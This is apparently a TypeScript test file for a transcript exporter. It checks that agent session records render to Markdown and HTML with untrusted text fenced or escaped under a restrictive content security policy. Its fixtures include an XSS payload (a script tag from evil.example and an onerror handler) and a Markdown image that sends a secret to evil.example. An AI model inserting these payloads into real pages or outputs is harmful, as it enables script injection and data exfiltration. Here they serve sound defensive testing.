import { expect, test } from 'vitest'

import { buildLine } from '#src/features/session/line/rows.ts'
import {
  at,
  inputOf,
  messageOf,
  roundOf,
  said,
  sessionOf,
} from '#src/features/session/session-fixture.ts'
import type { Message } from '#src/model/message.ts'

import { htmlOf, markdownOf, reportOf, roundMarkdown, rowsIn, rowText } from './documents.ts'
import type { TranscriptFile } from './transcript-file.ts'

const hostile =
  '<script src="https://evil.example/a.js"></script><img src=x onerror=\'alert("1")\'>'

function fileOf(messages: readonly Message[], report: string | null = null): TranscriptFile {
  const session = sessionOf({
    state: 'complete',
    status: 'complete',
    report,
    rounds: [
      { ...roundOf('r1', 0, 10), number: 1, title: 'Collect' },
      { ...roundOf('r2', 2, 5), number: 1, parentId: 'r1', agent: 'Checker' },
    ],
  })
  const service = 'https://service.example'
  const readAt = Date.UTC(2026, 10, 24, 9, 0, 5)
  return { session, rounds: [said('r1', ...messages)], service, readAt, gap: null }
}

test('Markdown has the facts, the rounds, who spoke when, and the report', () => {
  const file = fileOf(
    [
      messageOf('Two *paragraphs*.\n\nThe second.', 61, { author: 'Planner_1' }),
      messageOf('', 62, {
        role: 'tool',
        tool: { name: 'sql', input: 'select ```1```', output: '1' },
      }),
    ],
    '# Done\n\nAll booked.',
  )
  const rounds = [...file.rounds, said('r2', messageOf('Checked', 70, { role: 'subagent' }))]
  expect(markdownOf({ ...file, rounds, gap: 'the session goes on' })).toBe(
    [
      '# Reconcile October',
      [
        String.raw`- Session: ses\_1`,
        '- Service: https://service.example',
        '- Status: Complete',
        '- Spent: $12.84 of $20.00',
        '- Messages: 3 messages, possibly incomplete: the session goes on',
        '- As read at: 2026-11-24 09:00:05 UTC',
      ].join('\n'),
      '## Round 1: Collect',
      String.raw`**agent Planner\_1** · 2026-10-31 14:01:01 UTC`,
      '> Two *paragraphs*.\n> \n> The second.',
      '**tool sql** · 2026-10-31 14:01:02 UTC',
      '````\nselect ```1```\n````',
      '```\n1\n```',
      '## subagent Checker',
      '**subagent** · 2026-10-31 14:01:10 UTC',
      '> Checked',
      '## Completion report',
      '# Done\n\nAll booked.\n',
    ].join('\n\n'),
  )
})

test('a folded round is copied with the answer that no message shows, and a row in its own words', () => {
  const tool = { name: 'query', input: 'select 1', output: 'a ``` b' }
  const answer = { answer: 'the *first*', note: 'for now', askedAt: at(3), answeredAt: at(8) }
  const line = buildLine({
    rounds: [roundOf('a', 0, 20, { number: 4, title: 'Compare' }), roundOf('b', 20, null)],
    transcript: [
      said('a', messageOf('', 2, { role: 'tool', tool })),
      said('b', messageOf('On', 21)),
    ],
    humanInputs: [inputOf({ roundId: 'a', question: 'Which?', state: 'answered', ...answer })],
    folded: new Set(['a']),
  })
  expect(roundMarkdown(line, 'a')).toBe(
    [
      '## Round 4: Compare',
      '**tool query** · 2026-10-31 14:00:02 UTC',
      '```\nselect 1\n```',
      '````\na ``` b\n````',
      '**question** · 2026-10-31 14:00:03 UTC',
      '> Which?',
      '**operator** · 2026-10-31 14:00:08 UTC',
      '> the *first*\n> \n> for now',
    ].join('\n\n'),
  )
  expect(rowsIn(line).map(rowText)).toEqual([
    'Round 4: Compare',
    '````\nquery\nselect 1\na ``` b\n````',
    'Which?\n\nthe *first*\n\nfor now',
    'Round 5',
    'On',
  ])
})

test('Markdown that a viewer might run, or fetch a picture for, stands in a fence', () => {
  const picture = '![a](https://evil.example/?q=secret)'
  const text = markdownOf(fileOf([messageOf(hostile, 1), messageOf(picture, 2)], hostile))
  expect(text).toContain(`> \`\`\`\n> ${hostile}\n> \`\`\``)
  expect(text).toContain(`> \`\`\`\n> ${picture}\n> \`\`\``)
  expect(reportOf(fileOf([], hostile))).toContain(`\n\`\`\`\n${hostile}\n\`\`\`\n`)
  expect(reportOf(fileOf([], 'a < b'))).toContain('\n\na < b\n')
})

test('a web page has every text escaped, and a policy that forbids scripts and requests', () => {
  const tool = { name: hostile, input: hostile, output: hostile }
  const said1 = messageOf(`${hostile} \u202Edeh`, 1, { author: hostile, tool })
  const file = fileOf([said1], hostile)
  const text = htmlOf({ ...file, session: { ...file.session, goal: hostile }, service: hostile })
  expect(text).not.toMatch(/<(?:script|img|link|iframe|object)/)
  expect(text).not.toMatch(/<[^<>]*\son\w+=/)
  expect(text).toContain(`content="default-src 'none'; style-src 'unsafe-inline'"`)
  expect(text).toContain('&lt;script src=&quot;https://evil.example/a.js&quot;&gt;')
  expect(text).toContain('‹U+202E›deh')
  expect(text).not.toContain('\u202E')
})
